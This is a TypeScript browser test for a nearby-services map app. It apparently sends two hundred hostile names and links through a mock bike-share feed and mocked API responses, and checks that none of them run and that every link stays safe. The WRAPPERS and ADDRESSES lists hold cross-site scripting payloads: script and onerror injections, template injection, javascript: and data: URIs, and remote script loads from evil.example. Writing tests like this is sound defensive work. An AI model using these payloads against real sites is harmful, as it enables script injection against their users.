/**
 * Two hundred hostile texts and addresses, through a feed and through every other text the page
 * shows: they are read as what they are, and nothing of them runs.
 */
import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, describe, test } from "node:test";
import type { Browser, Page } from "playwright-core";
import { createFolder, removeFolder, start, type Started } from "../integration/service/support.ts";
import { sized } from "../support/size.ts";
import { MAP_ASIDE, openBrowser, openPage, skip, untilShown } from "./support.ts";

/** Every injected script calls this, so that a script that runs is noticed: by an error, a dialog or the mark. */
const RUN = "globalThis.pwned=1;alert(1)";
const WRAPPERS: readonly ((n: number) => string)[] = [
  (n) => `<script>${RUN}//${n}</script>`,
  (n) => `<img src=x${n} onerror="${RUN}">`,
  (n) => `<svg/onload=${RUN} id=${n}>`,
  (n) => `"><iframe srcdoc="<script>parent.pwned=${n}</script>">`,
  (n) => `'-${RUN}-'${n}`,
  (n) => `{{constructor.constructor("${RUN}")()}}${n}`,
  (n) => `</title><script src=//evil.example/${n}.js></script>`,
  (n) => `<a href="javascript:${RUN}">${n}</a>`,
  (n) => `<math><mtext></p><style><!--</style><img src=${n} onerror=${RUN}>`,
  (n) => `\${${RUN}}${n}<template shadowrootmode=open><img src onerror=${RUN}>`,
  (n) => `<style>@import'//evil.example/${n}.css'</style>`,
  (n) => `<form action="javascript:${RUN}"><button autofocus onfocus="${RUN}">${n}`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:${RUN}"> ${n}`,
  (n) => `&lt;img src=x onerror=${RUN}&gt;${n}`,
  (n) => `<base href="//evil.example/${n}/">`,
  (n) => `__proto__ ${n} </script><!--<script>${RUN}`,
];
const ADDRESSES: readonly ((n: number) => string)[] = [
  () => `javascript:${RUN}`,
  () => ` javascript:${RUN}`,
  () => `java\tscript:${RUN}`,
  () => `JaVaScRiPt:${RUN}`,
  () => `data:text/html,<script>${RUN}</script>`,
  () => `vbscript:${RUN}`,
  (n) => `https://evil.example/${n}"onmouseover="${RUN}`,
  (n) => `//evil.example/${n}`,
  (n) => `https://user:pass@evil.example/${n}`,
  () => `blob:${RUN}`,
];
/** The address of the point is not looked up: there is no geocoder. */
const NO_GEOCODER = /status of 503/;
const COUNT = 200;
/** Of them, opened in detail: every text and every address at least once. */
const OPENED = sized(WRAPPERS.length, 40);
const texts = Array.from({ length: COUNT }, (_, n) => WRAPPERS[n % WRAPPERS.length]!(n));
const addresses = Array.from({ length: COUNT }, (_, n) => ADDRESSES[n % ADDRESSES.length]!(n));
const AT = { lat: 10.5, lon: 20.25 };

/** A GBFS 2.3 system of which every text and address is hostile. */
function toFiles(origin: string): Record<string, object> {
  const about = { last_updated: 1_700_000_000, ttl: 0, version: "2.3" };
  const stations = texts.map((name, n) => ({
    station_id: `${n}`,
    name,
    short_name: name,
    address: name,
    capacity: 9,
    lat: AT.lat + (n % 15) * 1e-4,
    lon: AT.lon + Math.floor(n / 15) * 1e-4,
    rental_uris: { web: addresses[n], android: addresses[n], ios: addresses[n] },
  }));
  const states = texts.map((_, n) => ({
    station_id: `${n}`,
    num_bikes_available: 3,
    num_docks_available: 6,
    is_installed: true,
    is_renting: true,
    is_returning: true,
    last_reported: 1_700_000_000,
  }));
  const names = ["system_information", "station_information", "station_status"];
  const system = {
    system_id: "hostile",
    language: "en",
    timezone: "Africa/Lagos",
    name: texts[0],
    operator: texts[1],
    url: addresses[0],
    attribution_organization_name: texts[2],
    attribution_url: addresses[1],
    license_url: addresses[2],
  };
  return {
    "/gbfs.json": {
      ...about,
      data: { en: { feeds: names.map((name) => ({ name, url: `${origin}/${name}.json` })) } },
    },
    "/system_information.json": { ...about, data: system },
    "/station_information.json": { ...about, data: { stations } },
    "/station_status.json": { ...about, data: { stations: states } },
  };
}

async function openFeed(): Promise<{ server: Server; url: string }> {
  const server = createServer((request, response) => {
    const { port } = server.address() as AddressInfo;
    const file = toFiles(`http://127.0.0.1:${port}`)[request.url ?? ""];
    response.writeHead(file ? 200 : 404, { "content-type": "application/json" });
    response.end(JSON.stringify(file ?? {}));
  });
  await new Promise<void>((resolve) => void server.listen(0, "127.0.0.1", resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/gbfs.json` };
}

describe("hostile texts and addresses", { skip }, () => {
  let feed: { server: Server; url: string };
  let started: Started;
  let browser: Browser;
  before(async () => {
    feed = await openFeed();
    started = await start({
      mode: "live",
      data_dir: await createFolder(),
      settings: {
        egress: { allow_private: true },
        explorer: { start: AT },
        sources: {
          gbfs: { enabled: true, catalogue: null, systems: [{ id: "hostile", url: feed.url }] },
        },
      },
    });
    browser = await openBrowser();
  });
  after(async () => {
    await browser?.close();
    await started?.service.close({ delay_ms: 0 });
    feed?.server.close();
    await removeFolder(started.data_dir);
  });

  test("two hundred stations of a feed", async () => {
    const { page, context, assertClean } = await openPage(browser);
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    await page.goto(`${started.service.url}/?at=${AT.lat},${AT.lon}&show=bicycle&sort=distance`);
    await untilShown(page);
    await page.waitForSelector(".row .mark.station");
    // A page that was refused, as a busy service may, is asked for again.
    await page.waitForFunction(
      (count) => {
        document.querySelector<HTMLElement>(".notice button")?.click();
        return document.querySelector("#summary p")?.textContent?.includes(` ${count} results`);
      },
      COUNT,
      { polling: 500 },
    );
    // Everything is drawn: the list to its end, and a few of each kind in detail.
    await page.waitForFunction((count) => {
      const list = document.querySelector("#results") as HTMLElement;
      list.scrollTop = list.scrollHeight;
      return list.querySelectorAll(".row").length === count;
    }, COUNT);
    const names = await page.locator(".row .name").allTextContents();
    assert.equal(names.length, COUNT);
    assert.ok(names.filter((name) => name.includes("<script>")).length >= 10, "shown as text");
    for (let n = 0; n < WRAPPERS.length; n += 1) {
      await page.click(`.row >> nth=${n * 3}`);
      await page.waitForSelector("#detail .why h3");
      await assertNoBadLink(page);
      await page.keyboard.press("Escape");
    }
    await page.click("#tab-answer");
    await page.waitForSelector("#answer table");
    await page.click("#open-request");
    await page.waitForSelector(".json details");
    await page.goto(`${started.service.url}/status`);
    await page.waitForSelector("#sources tbody tr");
    assert.equal(await page.evaluate(() => "pwned" in globalThis), false);
    await assertNoBadLink(page);
    const elsewhere = requests.filter((one) => !one.startsWith(started.service.url));
    assert.deepEqual(elsewhere, []);
    assertClean(NO_GEOCODER);
    await context.close();
  });

  test("services, transit, places, sources and errors", async () => {
    const { page, context, assertClean } = await openPage(browser, { map: MAP_ASIDE });
    const { lat, lon } = AT;
    const each = <T>(make: (text: string, address: string, n: number) => T): T[] =>
      texts.map((text, n) => make(text, addresses[n] as string, n));
    const results = each((name, address, n) => ({
      id: `s${n}${name}`,
      type: "service",
      service_type: "toilets",
      name,
      external_id: name,
      location: { lat, lon: lon + n * 1e-5 },
      distance_meters: n,
      source_id: name,
      attributes: {
        [name]: name,
        website: address,
        maps_uri: address,
        nested: { deep: [address] },
      },
    }));
    const stations = each((name, address, n) => ({
      id: `svc_transport_station_${n}`,
      name,
      location: { lat, lon },
      distance_meters: n,
      modes: [name],
      operators: [{ id: name, name, url: address }],
      routes: [{ id: name, short_name: name, long_name: name, mode: name, color: `red;${name}` }],
      accessibility: { wheelchair: name },
      freshness: { fetched_at: name },
      sources: [{ provider: name, region: name, source_id: name, feed_id: name }],
    }));
    const sources = each((name, address, n) => ({
      id: `x${n}`,
      name,
      state: "ok",
      kind: "feed",
      licence: name,
      licence_url: address,
      attribution: name,
      attribution_url: address,
      bbox: null,
      terms: { map: "any" },
      entity_count: 1,
      age_s: 1,
      error_rate_5m: 0,
      operations: [],
    }));
    const departures = each((name, address, n) => ({
      id: `svc_departure_${n}`,
      station: { id: `svc_transport_station_${n}`, name, location: { lat, lon } },
      platform: { planned: name, live: null },
      line: { id: name, short_name: name, long_name: name, mode: name, color: `red;${name}` },
      operator: { id: name, name, url: address },
      headsign: name,
      planned_at: n % 2 === 0 ? name : "2026-11-14T09:34:00Z",
      expected_at: null,
      delay_seconds: null,
      realtime: name,
      status: name,
      wheelchair: name,
      alerts: [name],
      sources: [],
    }));
    const alerts = each((name, address) => ({
      id: name,
      header: name,
      description: name,
      url: address,
      active_periods: [],
    }));
    const error = { error: { code: "x", message: texts.join(" "), status: 500 } };
    await page.route("**/v1/services/nearby?**", (route) =>
      route.fulfill({ json: { status: "partial", message: texts.join(" "), total: 200, results } }),
    );
    await page.route(/\/v1\/departures\/(?!nearby)/, (route) =>
      route.fulfill({
        json: {
          status: "partial",
          message: texts.join(" "),
          time_zone: texts[0],
          results: { departures, alerts },
        },
      }),
    );
    await page.route("**/v1/transport/nearby?**", (route) =>
      route.fulfill({ json: { status: "success", total: 200, results: { stations } } }),
    );
    await page.route("**/v1/sources?**", (route) => route.fulfill({ json: { sources } }));
    await page.route("**/v1/nearby?**", (route) => route.fulfill({ status: 500, json: error }));
    await page.route("**/v1/place-search?**", (route) =>
      route.fulfill({
        json: {
          results: texts.map((name) => ({ name, label: name, type: name, location: AT })),
        },
      }),
    );
    await page.goto(
      `${started.service.url}/?at=${lat},${lon}&show=bicycle,toilets,transit&sort=distance`,
    );
    await untilShown(page);
    for (let n = 0; n < OPENED; n += 1) {
      await page.click(`.row >> nth=${n}`);
      await page.waitForSelector("#detail h2");
      await assertNoBadLink(page);
      await page.keyboard.press("Escape");
    }
    await page.fill("#q", texts[0] as string);
    await page.waitForSelector("#found li >> nth=199");
    await page.keyboard.press("Enter");
    await page.click("#open-request");
    await page.waitForSelector(".json");
    assert.equal(await page.evaluate(() => "pwned" in globalThis), false);
    await assertNoBadLink(page);
    assertClean(/status of 50[03]/);
    await context.close();
  });
});

/** Every link leads to https or to this service; the scheme is what the browser made of it. */
async function assertNoBadLink(page: Page): Promise<void> {
  const links = await page.evaluate(() =>
    [...document.querySelectorAll("a")].map(({ protocol, href, host, username }) => ({
      href,
      username,
      fine: protocol === "https:" || host === location.host,
    })),
  );
  assert.ok(links.length >= 3, `${links.length} links`);
  assert.deepEqual(
    links.filter(({ fine, username }) => !fine || username !== ""),
    [],
  );
}
